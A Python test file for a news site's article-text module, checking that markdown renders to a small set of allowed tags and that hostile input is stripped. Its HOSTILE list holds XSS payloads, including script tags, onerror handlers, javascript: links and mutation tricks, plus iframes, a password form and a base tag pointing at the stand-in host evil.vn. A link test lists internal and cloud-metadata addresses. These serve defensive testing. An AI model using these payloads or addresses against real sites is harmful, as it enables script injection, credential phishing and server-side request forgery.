"""The few marks of an article's text, and what cannot come in with them."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from danvan.news.models.body import cleaned, html_of, leads_outside, pieces, plain

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></mtext><mglyph><style><!--</style><img src onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<iframe src=https://evil.vn></iframe>",
    "<style>@import 'https://evil.vn'</style>",
    "<form action=https://evil.vn><input name=password></form>",
    "<p style='background:url(https://evil.vn)' onclick=alert(1)>x</p>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<base href=https://evil.vn><meta http-equiv=refresh content=0>",
    "<!--><img src=x onerror=alert(1)>-->",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    '[x](https://a.vn/"onmouseover="alert(1))',
    "[<img src=x onerror=alert(1)>](https://a.vn)",
    "**<b onclick=alert(1)>x</b>**",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
TAG = re.compile(r"<(/?)([a-z0-9]+)([^>]*)>", re.IGNORECASE)
ALLOWED = {"p", "br", "h2", "h3", "ul", "ol", "li", "blockquote", "strong", "em", "a"}


def wrong(html: str) -> list[str]:
    """Tags that do not belong, and attributes other than a link's."""
    link = re.compile(r'( href="(https?://|/)[^"<>]*")? rel="noopener nofollow"|')
    return [
        tag[0]
        for tag in TAG.finditer(html)
        if tag[2] not in ALLOWED or not link.fullmatch(tag[3]) or (tag[3] and tag[2] != "a")
    ]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_comes_through(text):
    for html in (html_of(text), html_of(f"- {text}"), cleaned(text)):
        assert wrong(html) == []
        assert "<script" not in html.lower()


@given(st.text(alphabet="<>&\"'*[]()#-/: \nahrefscipt1.ảnh", max_size=200))
def test_whatever_is_typed_the_html_is_safe(text):
    assert wrong(html_of(text)) == []


def test_the_marks_mean_what_they_say():
    text = "Đoạn một\ndòng hai\n\n## Mục\n\n- a\n- **b**\n\n1. x\n2. *y*\n\n> lời\n\n[t](https://a.vn/x?a=1&b=2)"
    assert html_of(text).split("\n") == [
        "<p>Đoạn một<br>dòng hai</p>",
        "<h2>Mục</h2>",
        "<ul><li>a</li><li><strong>b</strong></li></ul>",
        "<ol><li>x</li><li><em>y</em></li></ol>",
        "<blockquote><p>lời</p></blockquote>",
        '<p><a href="https://a.vn/x?a=1&amp;b=2" rel="noopener nofollow">t</a></p>',
    ]


@pytest.mark.parametrize(
    "url",
    [
        "http://localhost:8000/",
        "http://127.0.0.1/",
        "http://127.1/",
        "http://2130706433/",
        "http://0x7f.1/",
        "http://[::1]/",
        "http://169.254.169.254/latest",
        "http://192.168.1.1",
        "http://may-chu/",
        "http://db.internal/",
        "http://in.lan./",
        "//a.vn",
        "/\\a.vn",
        "ftp://a.vn",
        "https://ai-do:mat-khau@a.vn/",
        "javascript:alert(1)",
        "",
    ],
)
def test_no_link_leads_to_a_machine_here(url):
    """Asked twice: when the link is made, and of all HTML that goes out."""
    assert not leads_outside(url)
    assert "<a" not in html_of(f"[x]({url})")
    assert "href" not in cleaned(f'<a href="{url}">x</a>')


@pytest.mark.parametrize(
    "url",
    ["https://bacgiang.gov.vn/tin", "http://a.vn:8080/x?y=1#z", "/tin/bai/", "https://1.1.1.1"],
)
def test_links_to_the_web_and_to_our_own_pages_stay(url):
    assert leads_outside(url)
    assert "href" in html_of(f"[x]({url})")


class Shown:
    def __init__(self, number):
        self.number = number


def test_pictures_stand_where_the_text_names_them():
    one, two, three = photos = [Shown(n) for n in (1, 2, 3)]

    found = [piece.photo or piece.html for piece in pieces("a\n\n[ảnh 2]\n\nb", photos)]
    assert found == [one, "<p>a</p>", two, "<p>b</p>", three]
    found = [piece.photo or piece.html for piece in pieces("[ảnh 9]\n\na\n\n[Ảnh 1]", [one])]
    assert found == ["<p>a</p>", one]


def test_a_picture_named_twice_stands_once():
    one = Shown(1)
    assert [p.photo for p in pieces("[ảnh 1]\n\na\n\n[ảnh 1]", [one])].count(one) == 1


def test_words_alone_are_searched():
    assert plain("## Mục\n\n- **đậm** và [chữ](https://a.vn)") == "Mục đậm và chữ"
